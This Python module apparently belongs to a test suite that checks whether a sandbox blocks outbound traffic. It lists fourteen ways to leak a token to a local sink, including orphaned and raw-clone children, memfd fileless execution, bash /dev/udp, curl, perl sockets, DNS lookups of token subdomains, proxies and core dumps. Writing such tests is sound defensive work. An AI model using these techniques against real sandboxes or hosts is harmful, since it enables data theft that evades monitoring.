"""Attempts by others that are started for the purpose: children, tools, proxies, orphans."""

import os
import resource
import shutil
import signal
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Callable
from http.client import HTTPException
from pathlib import Path
from typing import Final

from inhouse.proofs.egress.attempt import Attempt, Unsupported, World, call, number, only_apart

PATIENCE_S: Final = 2.0
ORPHAN_WAITS_S: Final = 0.2
MFD_CLOEXEC: Final = 1


def _fork(world: World, token: bytes) -> None:
    child = os.fork()
    if child == 0:
        _send_and_end(world, token)
    os.waitpid(child, 0)


def _orphan(world: World, token: bytes) -> None:
    """A grandchild that waits until nobody watches it any more."""
    child = os.fork()
    if child == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(ORPHAN_WAITS_S)
            _send_and_end(world, token)
        os._exit(0)
    os.waitpid(child, 0)


def _clone(world: World, token: bytes) -> None:
    """A child that libc and Python know nothing of."""
    child = call(number("clone"), signal.SIGCHLD, 0, 0, 0, 0)
    if child == 0:
        _send_and_end(world, token)
    os.waitpid(child, 0)


def _send_and_end(world: World, token: bytes) -> None:
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendto(token, ("127.0.0.1", world.port))
    finally:
        os._exit(0)


def _tool(*command: str) -> Callable[[World, bytes], None]:
    """A program that is on most machines. `{}` stands for the token, `{port}` for the sink."""

    def act(world: World, token: bytes) -> None:
        tool = shutil.which(command[0], path="/usr/bin:/bin:/usr/sbin:/sbin")
        if tool is None:
            raise Unsupported(f"there is no {command[0]} here")
        values = {"token": token.decode(), "port": world.port, "folder": world.folder}
        words = [tool, *(word.format(**values) for word in command[1:])]
        subprocess.run(  # noqa: S603 - the words are this file's own
            words,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            timeout=PATIENCE_S,
            check=False,
            env={},
        )

    return act


def _python(world: World, token: bytes) -> None:
    there = ("127.0.0.1", world.port)
    code = f"import socket; socket.socket(2, 2).sendto({token!r}, {there!r})"
    command = [sys.executable, "-I", "-S", "-c", code]
    subprocess.run(  # noqa: S603 - our own interpreter
        command, stderr=subprocess.DEVNULL, timeout=PATIENCE_S, check=False, env={}
    )


def _spawn(world: World, token: bytes) -> None:
    """posix_spawn: no fork that anybody could hook."""
    script = f"echo {token.decode()} > {world.folder}/by-a-shell"
    child = os.posix_spawn("/bin/sh", ["sh", "-c", script], {})
    os.waitpid(child, 0)


def _from_memory(world: World, token: bytes) -> None:
    """A program that lies in no folder."""
    program = call(number("memfd_create"), b"program", MFD_CLOEXEC)
    try:
        os.write(program, Path("/bin/sh").read_bytes())
        child = os.fork()
        if child == 0:
            script = f"echo {token.decode()} > {world.folder}/from-memory"
            os.execve(program, ["sh", "-c", script], {})  # noqa: S606 - a file, not a shell's words
        os.waitpid(child, 0)
    finally:
        os.close(program)


def _proxy(world: World, token: bytes) -> None:
    """The variables that polite programs obey: a proxy on this machine does the dialling."""
    os.environ["http_proxy"] = f"http://127.0.0.1:{world.port}"
    try:
        with urllib.request.urlopen(f"http://{token.decode()}.example/", timeout=1):
            pass
    except urllib.error.URLError as error:
        if isinstance(error.reason, OSError):
            raise error.reason from error
    except (HTTPException, ConnectionError):
        pass  # the sink does not answer like a proxy, but it has read the question
    finally:
        del os.environ["http_proxy"]


def _name_tool(world: World, token: bytes) -> None:
    only_apart(world)
    _tool("getent", "hosts", "{token}.example.com")(world, token)


def _crash(world: World, token: bytes) -> None:
    """What was in memory lands in a file, or at a crash reporter."""
    if Path("/proc/sys/kernel/core_pattern").read_bytes().startswith((b"|", b"/", b"@")):
        raise Unsupported("crashes go to a reporter of this machine, which is left alone")
    child = os.fork()
    if child == 0:
        os.chdir(world.folder)
        hard = resource.getrlimit(resource.RLIMIT_CORE)[1]
        resource.setrlimit(resource.RLIMIT_CORE, (hard, hard))
        # A program of its own, or the dump would hold the tokens of all other attempts, too.
        os.execve("/bin/sh", ["sh", "-c", "kill -ABRT $$"], {"TOKEN": token.decode()})  # noqa: S606 - an attempt
    os.waitpid(child, 0)


ATTEMPTS: Final = (
    Attempt("a child", _fork),
    Attempt("a child by system call", _clone),
    Attempt("an orphan", _orphan),
    Attempt("another Python", _python),
    Attempt("a shell by posix_spawn", _spawn),
    Attempt("a program from memory", _from_memory),
    Attempt(
        "bash and its network", _tool("bash", "-c", "echo {token} > /dev/udp/127.0.0.1/{port}")
    ),
    Attempt("curl", _tool("curl", "-sm1", "http://127.0.0.1:{port}/{token}")),
    Attempt(
        "curl by a proxy", _tool("curl", "-sm1", "-xhttp://127.0.0.1:{port}", "http://{token}.test")
    ),
    Attempt(
        "perl",
        _tool(
            "perl",
            "-MIO::Socket::INET",
            "-e",
            "IO::Socket::INET->new(Proto=>'udp',PeerAddr=>'127.0.0.1:{port}')->send('{token}')",
        ),
    ),
    Attempt("the system's name tool", _name_tool),
    Attempt("the system's logger", _tool("logger", "-u", "{folder}/datagram", "{token}")),
    Attempt("a proxy by variables", _proxy),
    Attempt("a crash", _crash),
)
